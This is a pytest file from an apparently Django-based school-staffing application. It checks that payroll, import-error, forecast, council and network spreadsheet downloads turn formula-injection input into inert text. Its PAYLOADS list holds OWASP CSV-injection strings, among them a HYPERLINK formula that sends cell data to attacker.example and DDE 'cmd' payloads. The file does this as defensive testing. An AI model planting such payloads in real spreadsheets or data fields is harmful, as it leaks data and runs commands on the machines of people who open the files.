"""Formula injection, end to end: OWASP's CSV-injection payloads typed in as names reach every
spreadsheet a district downloads — payroll CSV and XLSX, the import error report, forecast
CSV and XLSX — and each arrives as inert text, never as a formula.

The downloaded bytes are checked, not the writer's inputs: each CSV cell is read back with the
csv module, and each XLSX sheet's XML is searched for formula elements.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from lattice.lib.tabular import DANGEROUS_FIRST
from lattice.pathways import actions as pathways_actions
from lattice.people import actions as people_actions
from lattice.people.models import District, Position
from tests.cast import Cast
from tests.forecasts.access_rows import FORM
from tests.imports.files import ROLES, write_package_12, zip_folder
from tests.pathways.world import START, adopt

pytestmark = pytest.mark.django_db

# From OWASP's "CSV Injection" page, plus the HYPERLINK exfiltration the probe used.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&C2,"Your pay rise")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1;=2+2",
    "＝1+1",  # a full-width equals sign, which some spreadsheets take for "="
]


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def assert_csv_is_inert(data: bytes, payload: str) -> None:
    cells = _csv_cells(data)
    assert any(cell.startswith("'" + payload) for cell in cells), "the payload did not arrive"
    assert not [c for c in cells if c.startswith(DANGEROUS_FIRST)]


def assert_xlsx_is_inert(data: bytes, payload: str) -> None:
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), f"a formula in {name}"
    book = load_workbook(io.BytesIO(data))
    texts = [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert any(t.startswith("'" + payload) for t in texts), "the payload did not arrive"
    assert not [t for t in texts if t.startswith(DANGEROUS_FIRST)]


# --- payroll ---------------------------------------------------------------------------------


def _hire(cast: Cast, family_name: str) -> None:
    staff, _ = people_actions.save_staff_member(
        None, cast.district, employee_id="N9999", given_name="Eve", family_name=family_name,
        email="eve@northfield.example.org", hire_date=dt.date(2020, 8, 15),
        prior_years_experience=Decimal("1"),
    )  # fmt: skip
    people_actions.add_assignment(
        None, staff, school=cast.alder, school_year=cast.year, position=Position.TEACHER,
        subject="Art", grades="K-5",
    )  # fmt: skip
    pathways_actions.record_starting_placement(
        cast.user("officer"), staff, on=START, pathway="professional", interval=1,
        reason="conversion",
    )  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_formula_as_a_staff_name_reaches_the_payroll_download_as_text(
    cast: Cast, client_for: Any, payload: str, file_format: str
) -> None:
    _hire(cast, payload)  # placed when the policy starts, as the district's teachers are
    adopt(cast)
    response = client_for("officer").post(
        "/pathways/office/payroll/", {"effective_date": "2026-07-01", "file_format": file_format}
    )
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    if file_format == "csv":
        assert_csv_is_inert(data, payload)
    else:
        assert_xlsx_is_inert(data, payload)


# --- the import error report -----------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_an_imported_roster_reaches_the_error_report_as_text(
    cast: Cast, client_for: Any, payload: str, tmp_path: Path, settings: Any
) -> None:
    settings.MEDIA_ROOT = tmp_path / "private"
    roles = [*ROLES[:3], {**ROLES[3], "orgSourcedId": payload}]
    archive = zip_folder(write_package_12(tmp_path / "or", roles=roles), tmp_path / "r.zip")
    officer = client_for("officer")
    officer.post(
        "/imports/northfield/oneroster/",
        {"files": SimpleUploadedFile("r.zip", archive.read_bytes(), "application/zip")},
    )
    from lattice.imports.models import ImportRun

    run = ImportRun.objects.get()
    report = officer.get(f"/imports/northfield/runs/{run.pk}/errors.csv")
    assert report.status_code == 200
    assert_csv_is_inert(report.content, payload)


# --- forecasts -------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS[:2])
def test_a_formula_as_a_district_name_reaches_the_forecast_downloads_as_text(
    cast: Cast, client_for: Any, payload: str
) -> None:
    adopt(cast)
    District.objects.filter(pk=cast.district.pk).update(name=payload)
    officer = client_for("officer")
    response = officer.post(
        "/forecasts/northfield/", FORM | {"policy": "adopted", "vs": "", "workforce": "district"}
    )
    assert response.status_code == 302
    run_url = response["Location"]
    csv_data = officer.get(f"{run_url}results.csv").content
    assert_csv_is_inert(csv_data, payload)
    assert_xlsx_is_inert(officer.get(f"{run_url}results.xlsx").content, payload)


# --- the council decision register and the network comparisons ---------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_as_a_council_decision_reaches_the_register_download_as_text(
    cast: Cast, client_for: Any, payload: str
) -> None:
    from lattice.councils.models import Decision
    from tests.councils.world import world

    Decision.objects.filter(pk=world(cast).decision.pk).update(statement=payload)
    response = client_for("teacher").get("/councils/decisions.csv")
    assert response.status_code == 200
    assert_csv_is_inert(response.content, payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_as_a_district_name_reaches_the_network_comparisons_as_text(
    cast: Cast, client_for: Any, payload: str
) -> None:
    District.objects.filter(pk=cast.other_district.pk).update(name=payload)
    response = client_for("network_officer").get("/network/river-valley/compare.csv")
    assert response.status_code == 200
    assert_csv_is_inert(response.content, payload)


# --- one writer ----------------------------------------------------------------------------------

LATTICE = Path(__file__).resolve().parents[2] / "lattice"
WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl|xlsxwriter|\.to_csv\(|\.to_excel\(")
# Modules that may touch csv/openpyxl for something other than a download a person opens:
READERS_AND_INTERMEDIATES = {
    "lib/tabular.py": "the shared safe writer itself",
    "imports/hr/reader.py": "reads uploaded HR workbooks (openpyxl, read-only)",
    "imports/hr/columns.py": "documents that HR workbooks are read with openpyxl",
    "imports/oneroster/rest.py": (
        "writes the REST service's rows as a OneRoster CSV package that the importer then "
        "reads; neutralising those cells would change the roster itself"
    ),
    "api/views/imports.py": (
        "writes the HR rows posted to the API as the CSV file the HR importer then reads; "
        "neutralising those cells would change the rows themselves"
    ),
}


def test_every_spreadsheet_lattice_writes_goes_through_the_one_safe_writer() -> None:
    offenders = []
    for path in sorted(LATTICE.rglob("*.py")):
        relative = path.relative_to(LATTICE).as_posix()
        if relative in READERS_AND_INTERMEDIATES or "/migrations/" in relative:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITERS.search(line):
                offenders.append(f"lattice/{relative}:{number}: {line.strip()}")
    assert not offenders, "write CSV/XLSX with lattice.lib.tabular instead:\n" + "\n".join(
        offenders
    )
